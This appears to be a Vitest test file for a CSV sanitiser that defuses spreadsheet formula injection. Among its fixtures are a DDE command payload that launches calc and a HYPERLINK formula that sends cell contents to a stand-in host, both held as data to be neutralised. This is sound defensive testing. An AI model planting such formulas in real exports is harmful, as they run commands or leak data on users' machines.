import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { defuseCsv, writeCsv } from './csv.ts';
import { EVIDENCE_FILE_BYTES } from './limits.ts';

test.each([
  ['=1+1', "'=1+1"],
  ["=cmd|' /C calc'!A0,5", "'=cmd|' /C calc'!A0,5"],
  ['a,=HYPERLINK("http://x.example?"&A1)', 'a,\'=HYPERLINK("http://x.example?"&A1)'],
  ['a;@SUM(A1)', "a;'@SUM(A1)"],
  ['a\t+A1*2', "a\t'+A1*2"],
  ['a|-A1', "a|'-A1"],
  ['"=1+1",b', '"\'=1+1",b'],
  ['a, =1+1', "a, '=1+1"],
  ['a,"\t=1+1"', 'a,"\t\'=1+1"'],
  ['a\r\n=1+1\r\n', "a\r\n'=1+1\r\n"],
  ['a\r=1+1', "a\r'=1+1"],
  ['\ufeff=1+1', "\ufeff'=1+1"],
  ['-2+3+cmd', "'-2+3+cmd"],
  ['+27 82 555=1', "'+27 82 555=1"],
  ['＝1+1', "'＝1+1"],
  ['sep=z\naz=1+1', "'sep=z\naz=1+1"],
  ['\ufeff"SEP=z"\naz', '\ufeff"\'SEP=z"\naz'],
])('of %j nothing runs', (csv, safe) => {
  expect(defuseCsv(csv)).toBe(safe);
});

test.each([
  'date,amount\n2026-01-01,-500.00\n2026-01-02,+1 250.00\n',
  '-500;-R 20 000.00;- R5',
  'phone\n+27 82 555 1234\n',
  'a,-,--,b',
  'e-mail,a@example.co.za,a=b,x+y',
  '\ufeffBedrag;Nota\n5;"Nooit betaal nie – ooit"\n',
])('%j stays as it is', (csv) => {
  expect(defuseCsv(csv)).toBe(csv);
});

test('a defused file does not change again', () => {
  const once = defuseCsv('=1+1,"@x"\n-A1');
  expect(defuseCsv(once)).toBe(once);
});

test.each([' ', '\t', '=', '-', ',', '"', '\r', '+ '])('a file of %j alone takes no time', (text) => {
  const began = process.cpuUsage();
  defuseCsv(text.repeat(EVIDENCE_FILE_BYTES.max / text.length));
  expect(process.cpuUsage(began).user).toBeLessThan(5_000_000);
});

const SEPARATORS = [',', ';', '\t', '|'];

test.each([
  'Acme;=1+1;x',
  'Acme,=1+1',
  'Acme\t=1+1',
  'Acme|@SUM(A1)',
  '=HYPERLINK("x")',
  'The "Acme"=1+1',
  '"=1+1',
  'Acme\n=1+1',
  'Acme\r\n-1+1',
  'Acme\r+1+A1',
  '\t=1+1',
  ' =1+1',
  '＝1+1',
  'Acme;＝1+1',
  'Acme; ＋1',
])('%j is no formula in a CSV, whatever separator it is written or read with', (text) => {
  for (const written of SEPARATORS)
    for (const delimiter of SEPARATORS)
      for (const quote of ['"', false] as const) {
        const csv = writeCsv([['Name'], ['1', text, 'x']], written);
        const options = { delimiter, quote, relax_column_count: true, relax_quotes: true };
        const cells = parse(csv, { ...options, record_delimiter: ['\r\n', '\n', '\r'] }).flat();
        expect(cells.filter((cell) => /^["\s]*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
      }
});

test.each([
  [',', '"Jones, Brown",5.5,-2\r\n'],
  [';', '"Jones, Brown";5,5;-2\r\n'],
  ['\t', '"Jones, Brown"\t5.5\t-2\r\n'],
])(
  'between %j, decimals are those of its files and texts with any separator have quotes',
  (separator, csv) => {
    expect(writeCsv([['Jones, Brown', 5.5, -2]], separator)).toBe(csv);
  },
);

test('quotes, separators and line breaks within a text come back as they were', () => {
  const row = ['a "b"', 'a;b', 'a\tb', 'a|b', 'a\r\nb', ''];
  for (const delimiter of SEPARATORS) expect(parse(writeCsv([row], delimiter), { delimiter })).toEqual([row]);
});
